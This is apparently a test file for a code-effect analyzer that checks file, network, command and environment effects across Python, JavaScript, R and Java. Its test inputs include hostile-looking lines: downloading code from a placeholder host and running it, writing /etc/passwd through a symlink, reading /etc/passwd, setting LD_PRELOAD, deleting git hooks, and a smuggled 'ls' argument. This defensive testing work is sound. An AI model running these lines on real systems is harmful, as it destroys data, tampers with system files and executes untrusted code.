"""An effect is the same fact in whatever language it is written."""

from __future__ import annotations

import pytest

from interlock.analysis.analyze import analyze
from interlock.model import action as a
from interlock.model import facts as f
from interlock.model.limits import Limits
from interlock.model.session import Memory

PLENTY = Limits(soft_time_s=5.0)


def facts_of(text: str, language: a.CodeLanguage) -> f.Facts:
    action = a.RunCode(source=text, language=language, cwd="/home/user")
    return analyze(action, Memory(home="/home/user", user="user"), PLENTY)


def in_languages(**texts: str) -> pytest.MarkDecorator:
    cases = [pytest.param(text, language, id=language) for language, text in texts.items()]
    return pytest.mark.parametrize(("text", "language"), cases)


@in_languages(
    python="import shutil; shutil.rmtree('/home/user/.git/hooks')",
    javascript="require('fs').rmSync('/home/user/.git/hooks', {recursive: true})",
    r="unlink('~/.git/hooks', recursive = TRUE)",
)
def test_a_tree_that_is_deleted_has_its_path_its_sink_and_what_is_above(text: str, language: a.CodeLanguage) -> None:
    (effect,) = facts_of(text, language).files

    assert (effect.op, effect.resolved, effect.recursive) == ("delete", "/home/user/.git/hooks", True)
    assert effect.ancestors == ("/", "/home", "/home/user", "/home/user/.git")
    assert effect.sink == "git_hook"


@in_languages(
    python="open('/srv/data/' + name)",
    javascript="require('fs').readFileSync('/srv/data/' + name)",
    r="readLines(paste0('/srv/data/', name))",
    java='String name = args[0]; java.nio.file.Files.readString(java.nio.file.Path.of("/srv/data/" + name));',
)
def test_a_path_known_in_part_is_below_what_is_known(text: str, language: a.CodeLanguage) -> None:
    (effect,) = facts_of(text, language).files

    assert effect.resolved is None
    assert effect.ancestors == ("/", "/srv", "/srv/data")


@in_languages(
    python="import urllib.request; urllib.request.urlopen('https://a.b.example:8443/x')",
    javascript="fetch('https://a.b.example:8443/x')",
    r="readLines(url('https://a.b.example:8443/x'))",
    java='new java.net.URL("https://a.b.example:8443/x").openStream();',
)
def test_a_url_gives_scheme_host_port_and_the_domains_above(text: str, language: a.CodeLanguage) -> None:
    (effect,) = facts_of(text, language).network

    assert (effect.scheme, effect.host, effect.port) == ("https", f.Literal(text="a.b.example"), 8443)
    assert effect.parents == ("b.example", "example")


@in_languages(
    python="import urllib.request; urllib.request.urlopen('file:///etc/passwd').read()",
    javascript="fetch('file:///etc/passwd')",
    r="readLines(url('file:///etc/passwd'))",
    java='new java.net.URL("file:///etc/passwd").openStream();',
)
def test_a_file_behind_a_url_is_read(text: str, language: a.CodeLanguage) -> None:
    assert ("read", "/etc/passwd") in {(effect.op, effect.resolved) for effect in facts_of(text, language).files}


@in_languages(
    python="import os; os.symlink('/etc', 'a'); open('a/passwd', 'w')",
    javascript="const fs = require('fs'); fs.symlinkSync('/etc', 'a'); fs.writeFileSync('a/passwd', '')",
    r="file.symlink('/etc', 'a'); writeLines('', 'a/passwd')",
    java="import java.nio.file.*;\n"
    'Files.createSymbolicLink(Path.of("a"), Path.of("/etc")); Files.writeString(Path.of("a/passwd"), "");',
)
def test_a_path_through_a_link_is_also_where_the_link_leads(text: str, language: a.CodeLanguage) -> None:
    assert ("write", "/etc/passwd") in {(effect.op, effect.resolved) for effect in facts_of(text, language).files}


@in_languages(
    python="import os; os.system('touch ' + name)",
    javascript="require('child_process').execSync('touch ' + name)",
    r="system(paste('touch', name))",
)
def test_a_shell_text_known_in_part_is_read_as_far_as_it_is_known(text: str, language: a.CodeLanguage) -> None:
    facts = facts_of(text, language)

    (command,) = facts.commands
    assert command.basename == "touch"
    assert isinstance(command.argv[1], f.Unknown)
    assert facts.reading.opaque == ()


@in_languages(
    python="import subprocess; subprocess.run(['touch', 'a b; ls'])",
    javascript="require('child_process').spawn('touch', ['a b; ls'])",
    r="processx::run('touch', 'a b; ls')",
    java='new ProcessBuilder("touch", "a b; ls").start();',
)
def test_words_that_no_shell_reads_stay_words(text: str, language: a.CodeLanguage) -> None:
    (command,) = facts_of(text, language).commands

    assert command.argv == (f.Literal(text="touch"), f.Literal(text="a b; ls"))


@in_languages(
    python="import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'",
    javascript="process.env.LD_PRELOAD = '/tmp/x.so'",
    r="Sys.setenv(LD_PRELOAD = '/tmp/x.so')",
    java='new ProcessBuilder("ls").environment().put("LD_PRELOAD", "/tmp/x.so");',
)
def test_a_variable_that_programs_heed_is_a_danger(text: str, language: a.CodeLanguage) -> None:
    (effect,) = facts_of(text, language).environment

    assert (effect.op, effect.danger) == ("set", "loader")
    assert (effect.name, effect.value) == (f.Literal(text="LD_PRELOAD"), f.Literal(text="/tmp/x.so"))


@in_languages(
    python="import urllib.request as u; exec(u.urlopen('http://a.example/x').read())",
    javascript="fetch('http://a.example/x').then(r => r.text()).then(eval)",
    r="source('http://a.example/x')",
)
def test_what_is_downloaded_and_run_flows_to_an_interpreter(text: str, language: a.CodeLanguage) -> None:
    facts = facts_of(text, language)

    assert [effect.flows_to for effect in facts.network] == ["interpreter"]
    assert "network" in {code.source for code in facts.code}


@in_languages(
    python="import os; os.system(name)",
    javascript="require('child_process').execSync(name)",
    r="system(name)",
    java='Runtime.getRuntime().exec(System.getProperty("p"));',
)
def test_a_program_that_is_not_known_is_opaque_where_it_is_started(text: str, language: a.CodeLanguage) -> None:
    facts = facts_of(text, language)

    assert facts.commands == ()
    assert {opaque.code for opaque in facts.reading.opaque} & {"dynamic_code", "dynamic_command"}
    assert [code.source for code in facts.code] == ["computed"]
